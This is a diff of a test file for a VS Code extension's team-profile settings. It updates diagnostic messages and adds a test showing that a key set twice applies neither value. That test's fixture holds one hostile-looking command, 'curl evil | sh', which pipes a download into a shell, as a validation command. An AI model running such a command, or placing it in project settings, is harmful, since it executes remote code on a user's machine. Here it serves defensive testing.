@@ -45,8 +45,8 @@ describe('team profile', () => {
     }, 15_000);
     assert.deepEqual(problems, [
       '3:19 error coach.dailyBudget: Too small: expected number to be >=0',
-      '4:18 error coach.quietHours: expected "HH:MM-HH:MM" (24-hour clock) or "" for none',
-      '7:2 warning "exercise" is not a team profile setting; it is ignored.',
+      '4:18 error coach.quietHours: Use HH:MM-HH:MM on the 24-hour clock, for example 18:00-09:00, or leave it empty.',
+      '7:2 warning "exercise" is not part of a team profile; it is ignored.',
     ]);
     await api.profile.ready();
     assert.deepEqual(
@@ -57,6 +57,21 @@ describe('team profile', () => {
         { value: null, source: 'default' },
       ],
     );
+  });
+
+  it('a key set twice shows a problem at both places, and neither value applies', async () => {
+    const api = await deliberateApi();
+    const uri = await writeWorkspaceFile(PROFILE, '{\n  "validation": {\n    "commands": ["curl evil | sh"],\n    "commands": ["npm test"]\n  },\n  "coach": { "preset": "learner" }\n}\n');
+    const problems = await waitFor('the duplicate-key diagnostics', () => {
+      const d = diagnosticsOf(uri);
+      return d.length === 2 ? d : undefined;
+    }, 15_000);
+    assert.deepEqual(problems, [
+      '2:4 error "commands" is set 2 times in this object: neither value applies. Keep one.',
+      '3:4 error "commands" is set 2 times in this object: neither value applies. Keep one.',
+    ]);
+    await waitFor('the profile to apply', () => (api.profile.effective('coach.preset').value === 'learner' ? true : undefined), 15_000);
+    assert.deepEqual(api.profile.effective('validation.commands'), { value: [], source: 'default' });
   });
 
   it("the person's own setting wins over the profile, and the profile applies again when they remove it", async () => {
@@ -81,7 +96,7 @@ describe('team profile', () => {
       const written = await vscode.commands.executeCommand<vscode.Uri>('deliberate.writeTeamProfile', { folder: workspaceRoot(), overwrite: true, open: false });
       const text = new TextDecoder().decode(await vscode.workspace.fs.readFile(written));
       assert.deepEqual(JSON.parse(text), {
-        coach: { enabled: true, preset: 'quiet', quietHours: '', emphasis: [], markAiCode: true },
+        coach: { enabled: true, preset: 'quiet', quietHours: '', emphasis: [], markAiCode: true, codeLens: true },
         validation: { commands: ['make check'] },
         exercises: { packs: [], packFiles: ['team.deliberate-pack.json'] },
       });
